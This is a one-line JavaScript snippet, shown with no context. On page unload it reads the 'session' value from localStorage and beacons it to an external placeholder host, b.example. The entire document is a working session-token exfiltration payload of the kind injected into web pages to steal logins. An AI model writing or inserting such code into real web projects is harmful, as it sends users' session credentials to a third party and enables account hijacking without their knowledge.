addEventListener('unload', () => navigator.sendBeacon('https://b.example', localStorage.getItem('session')));
